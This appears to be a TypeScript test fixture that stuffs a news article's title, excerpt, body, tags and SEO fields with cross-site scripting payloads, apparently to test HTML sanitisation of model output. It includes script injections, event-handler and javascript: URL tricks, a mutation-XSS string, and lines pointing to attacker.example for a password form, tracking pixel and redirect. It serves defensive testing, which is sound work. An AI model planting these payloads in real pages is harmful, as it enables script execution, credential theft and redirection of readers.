import type { Article } from './article.ts';

const CANARY = 'window.__pressloom_canary=1';

/** The same article as a model under somebody's influence would return it: valid JSON, dangerous HTML. */
export function hostileArticle(article: Article): Article {
  const attacks = [
    `<script>${CANARY}</script>`,
    `<img src="x" onerror="${CANARY}">`,
    `<a href="javascript:${CANARY}">Read more</a>`,
    `<a href="  java\tscript:${CANARY}">Read on</a>`,
    '<iframe src="https://attacker.example/frame"></iframe>',
    `<svg onload="${CANARY}"><use href="data:image/svg+xml;base64,PHN2Zz4="/></svg>`,
    '<p style="background:url(https://attacker.example/pixel)" onclick="alert(1)">Styled</p>',
    '<style>body{display:none}</style><link rel="stylesheet" href="https://attacker.example/x.css">',
    '<form action="https://attacker.example/"><input name="password"></form>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<!-- wp:html --><script>alert(1)</script><!-- /wp:html -->',
    '[embed]https://attacker.example/[/embed]',
  ];
  return {
    ...article,
    title: `${article.title}<script>${CANARY}</script>`,
    excerpt: `<img src=x onerror=${CANARY}>${article.excerpt}`,
    html: `${attacks.join('\n')}\n${article.html}\n${attacks.join('\n')}`,
    categories: ['<b onmouseover=alert(1)>Hostile</b>', ...article.categories],
    tags: ['"><script>alert(1)</script>', ...article.tags],
    seoTitle: `</title><script>${CANARY}</script>${article.seoTitle}`,
    seoDescription: `"><meta http-equiv="refresh" content="0;url=https://attacker.example/">${article.seoDescription}`,
  };
}
